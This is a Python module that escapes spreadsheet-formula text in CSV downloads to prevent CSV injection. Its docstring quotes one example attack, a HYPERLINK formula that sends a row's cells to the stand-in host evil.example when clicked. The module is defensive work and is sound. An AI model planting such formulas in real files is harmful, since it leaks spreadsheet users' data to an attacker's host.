"""The CSV files olmes writes for spreadsheets (the site's downloads, ``olmes tables``): text a
spreadsheet would run as a formula is written so that it stays text.

Why: these files hold text anyone can submit (a model's display name, its series, dataset text), and a
spreadsheet takes a cell that starts with ``=``, ``+``, ``-`` or ``@`` for a formula:
``=HYPERLINK("http://evil.example/?leak="&A2,"x")`` as a display name sends the next row's cells to
that host when clicked. A cell starting with a tab or a carriage return can become one once the
spreadsheet trims it (OWASP, "CSV injection").

The rule, :func:`csv_text`: a **text** cell (a name, a label, dataset text, a header) that starts with
one of those six characters gets a leading apostrophe, which spreadsheets take as "this is text" and
do not show. A **number** is written as it is, a negative one included (``-1.2`` is a number, not a
formula). Which cells are text is the writer's to say, not the cell's type: a table's numbers are
formatted strings (``-1.2``, ``+0.35``, ``45.1†``), so each writer passes only its text cells through
:func:`csv_text` (a table cell with no number behind it, a download's name and label columns, a
figure's string values).
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
"""What a text cell of a CSV file must not start with (a spreadsheet would read a formula)."""


def csv_text(text: str) -> str:
    """A text cell as a CSV file holds it: ``'`` before text that starts with one of
    :data:`FORMULA_STARTS`, any other text as it is. Never for a number (see the module)."""
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def csv_document(rows: Iterable[Sequence[object]]) -> str:
    """Rows as CSV text, each line ending in ``\\n``; the cells as given (text cells already through
    :func:`csv_text`)."""
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\n").writerows(rows)
    return buffer.getvalue()
